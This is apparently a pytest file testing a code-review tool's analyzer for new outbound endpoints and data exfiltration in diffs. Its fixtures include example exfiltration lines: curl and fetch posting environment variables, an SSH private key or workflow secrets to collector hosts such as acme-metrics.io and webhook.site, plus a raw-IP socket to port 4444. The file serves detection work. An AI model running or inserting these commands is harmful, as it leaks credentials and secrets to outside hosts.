"""New outbound endpoints: ranking by kind of service, what counts as new, and exfiltration."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import benign_noise, missed_cases

from reviewer.core.analyzers.base import ScanOptions
from reviewer.core.analyzers.endpoints import EndpointAnalyzer, classify_host
from reviewer.core.diff import parse_diff
from reviewer.core.engine import scan
from reviewer.core.findings import Finding, Severity


def new_file_diff(path: str, text: str) -> str:
    lines = text.splitlines()
    body = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}"
    )


def move_diff(path: str, removed: str, added: str) -> str:
    return (
        f"diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\n--- a/{path}\n+++ b/{path}\n"
        f"@@ -1,2 +1,2 @@\n import os\n-{removed}\n+{added}\n"
    )


def findings(diff: str, **options: object) -> list[Finding]:
    return scan(
        parse_diff(diff), analyzers=[EndpointAnalyzer()], options=ScanOptions(**options)
    ).findings  # type: ignore[arg-type]


def ranked(found: list[Finding]) -> list[tuple[str, Severity]]:
    return [(f.rule_id, f.severity) for f in found if f.severity >= Severity.MEDIUM]


@pytest.mark.parametrize(
    ("url", "severity"),
    [
        ("https://webhook.site/3f1c0a52-1111-2222-3333-444455556666", Severity.HIGH),
        ("https://discord.com/api/webhooks/1234567890/abcdef", Severity.HIGH),
        ("https://api.telegram.org/bot123:AAx/sendMessage", Severity.HIGH),
        ("https://pastebin.com/raw/Ab12Cd34", Severity.MEDIUM),
        ("https://a1b2-203-0-113-7.ngrok-free.app/collect", Severity.MEDIUM),
        ("https://calm-river-1234.trycloudflare.com/x", Severity.MEDIUM),
        ("https://transfer.sh/abc/out.tgz", Severity.MEDIUM),
        ("http://myhome.duckdns.org:8080/", Severity.MEDIUM),
        ("https://some-app-4821.herokuapp.com/hit/", Severity.MEDIUM),
    ],
)
def test_suspicious_services_are_ranked(url: str, severity: Severity) -> None:
    found = findings(new_file_diff("src/report.py", f'ENDPOINT = "{url}"\n'))
    assert ranked(found) == [("endpoint-suspicious-host", severity)]
    assert found[0].category == "new-outbound-endpoint"
    assert {"new-endpoint", "suspicious-endpoint"} <= found[0].capabilities


def test_ordinary_and_inert_urls_are_info_at_most() -> None:
    code = (
        'DOCS = "https://docs.python.org/3/library/json.html"\n'
        'LOCAL = "http://localhost:8080/health"\n'
        'EXAMPLE = "https://api.example.com/v1"\n'
        'PRIVATE = "http://10.0.0.12:9000/"\n'
        'DOC_NET = "http://192.0.2.10/"\n'
        'SCHEMA = "http://www.w3.org/2001/XMLSchema-instance"\n'
        'CHAT_UI = "https://discord.com/channels/123/456"\n'
    )
    found = findings(new_file_diff("src/urls.py", code))
    assert ranked(found) == []
    assert {f.rule_id for f in found} <= {"endpoint-new-host"}


def test_short_link_in_a_message_for_people_ranks_lower_than_one_the_code_calls() -> None:
    told = findings(
        new_file_diff(
            "src/warn.py", 'log.warning("Skipping %s; see https://bit.ly/3xYz9Qa for why")\n'
        )
    )
    assert ranked(told) == []
    called = findings(new_file_diff("src/get.py", 'resp = urlopen("https://bit.ly/3xYz9Qa")\n'))
    assert ranked(called) == [("endpoint-suspicious-host", Severity.MEDIUM)]


def test_raw_public_ip_in_code_is_medium_and_versions_are_not_ips() -> None:
    found = findings(new_file_diff("src/net.py", 'sock.connect(("45.77.12.201", 4444))\n'))
    assert ranked(found) == [("endpoint-raw-ip", Severity.MEDIUM)]
    url = findings(new_file_diff("src/net2.py", 'requests.post("http://45.77.12.201/u", data=d)\n'))
    assert ranked(url) == [("endpoint-raw-ip", Severity.MEDIUM)]
    quiet = (
        '__version__ = "4.3.2.1"\n'
        'REQUIRES = "lib>=1.2.3.4"\n'
        'DNS = "8.8.8.8"\n'
        'OID = "1.3.6.1.4.1.311"\n'
    )
    assert ranked(findings(new_file_diff("src/meta.py", quiet))) == []


def test_encoded_ip_in_url_is_high() -> None:
    for host in ("760024265", "0x2d4d0cc9", "0055.0115.014.0311"):
        found = findings(new_file_diff("src/u.js", f'fetch("http://{host}/p")\n'))
        assert ranked(found) == [("endpoint-encoded-ip", Severity.HIGH)], host
        assert "45.77.12.201" in found[0].message


def test_a_moved_url_is_not_new() -> None:
    url = "https://webhook.site/3f1c0a52-1111-2222-3333-444455556666"
    moved = move_diff("src/report.py", f'OLD = "{url}"', f'NEW = "{url}"')
    assert findings(moved) == []


def test_allow_list_silences_a_domain_and_its_subdomains() -> None:
    diff = new_file_diff("src/hooks.py", 'URL = "https://hooks.ci.herokuapp.com/x"\n')
    assert ranked(findings(diff)) == [("endpoint-suspicious-host", Severity.MEDIUM)]
    assert findings(diff, allowed_domains=frozenset({"ci.herokuapp.com"})) == []


def test_docs_and_tests_rank_lower() -> None:
    readme = "Expose the dev server with `ngrok http 3000` and open https://abc.ngrok-free.app.\n"
    assert ranked(findings(new_file_diff("README.md", readme))) == []
    test = findings(new_file_diff("tests/test_hook.py", 'URL = "https://webhook.site/abc"\n'))
    assert ranked(test) == [("endpoint-suspicious-host", Severity.MEDIUM)]


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("ci/upload.sh", 'curl -s -d "$(env)" https://collect.acme-metrics.io/v2 || true\n'),
        ("src/t.py", 'requests.post("https://stats.acme-metrics.io/e", json=dict(os.environ))\n'),
        (
            "src/t.js",
            'fetch("https://stats.acme-metrics.io/e", {method: "POST", body: '
            "JSON.stringify(process.env)})\n",
        ),
        ("tools/k.sh", "curl -F key=@$HOME/.ssh/id_rsa https://drop.acme-metrics.io/\n"),
    ],
)
def test_environment_or_keys_sent_to_a_url_is_exfiltration(path: str, code: str) -> None:
    found = findings(new_file_diff(path, code))
    exfil = [f for f in found if f.rule_id == "endpoint-exfiltration"]
    assert [(f.category, f.severity) for f in exfil] == [("exfiltration", Severity.HIGH)]
    assert "network-send" in exfil[0].capabilities


def test_secrets_of_a_workflow_sent_to_a_collector_are_critical() -> None:
    wf = (
        "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
        '    - run: curl -d "$DATA" https://webhook.site/abc-def\n'
        "      env:\n        DATA: ${{ toJSON(secrets) }}\n"
    )
    found = findings(new_file_diff(".github/workflows/x.yml", wf))
    assert ("endpoint-exfiltration", Severity.CRITICAL) in ranked(found)


def test_reading_one_variable_near_a_url_is_not_exfiltration() -> None:
    code = (
        'token = os.environ.get("API_TOKEN")\n'
        'requests.get("https://api.acme-metrics.io/v1/me", headers={"Authorization": token})\n'
    )
    assert ranked(findings(new_file_diff("src/client.py", code))) == []


def test_classify_host_uses_suffixes_and_paths() -> None:
    assert classify_host("x.y.ngrok.io") is not None
    assert classify_host("notngrok.io") is None
    assert classify_host("discord.com", "/api/webhooks/1/2") is not None
    assert classify_host("discord.com", "/invite/abc") is None


def test_python_analyzers_are_registered_and_catalogued() -> None:
    from reviewer.core.analyzers import builtin_rule_metas, default_analyzers
    from reviewer.core.findings import CATEGORIES

    names = {a.name for a in default_analyzers()}
    assert {"unicode", "secrets", "blobs", "agents", "endpoints"} <= names
    metas = [m for m in builtin_rule_metas() if m.source.startswith("python:")]
    ids = [m.rule_id for m in metas]
    assert len(ids) == len(set(ids))
    for rule in (
        "unicode-bidi-control",
        "secret-private-key",
        "auth-magic-compare",
        "blob-binary-executable",
        "agent-cli-permission-bypass",
        "endpoint-suspicious-host",
        "endpoint-exfiltration",
    ):
        assert rule in ids
    assert all(m.category in CATEGORIES and m.rationale and m.remediation for m in metas)


def test_benign_corpus_is_quiet(shared_dir: Path) -> None:
    noisy = benign_noise(shared_dir / "corpus", [EndpointAnalyzer()])
    assert len(noisy) <= 2, noisy


@pytest.mark.corpus
def test_endpoint_cases_are_detected(shared_dir: Path) -> None:
    missed = missed_cases(
        shared_dir / "corpus", "new-outbound-endpoint", [EndpointAnalyzer()], Severity.MEDIUM
    )
    assert missed == []


def test_exfiltration_message_names_the_url_without_the_quotes_around_it() -> None:
    code = (
        "import os, json, urllib.request\n"
        "data = dict(os.environ)\n"
        'urllib.request.urlopen("https://collector.example.net/c", '
        "data=json.dumps(data).encode())\n"
    )
    (f,) = [
        f for f in findings(new_file_diff("sync.py", code)) if f.rule_id == "endpoint-exfiltration"
    ]
    assert "`https://collector.example.net/c`" in f.message
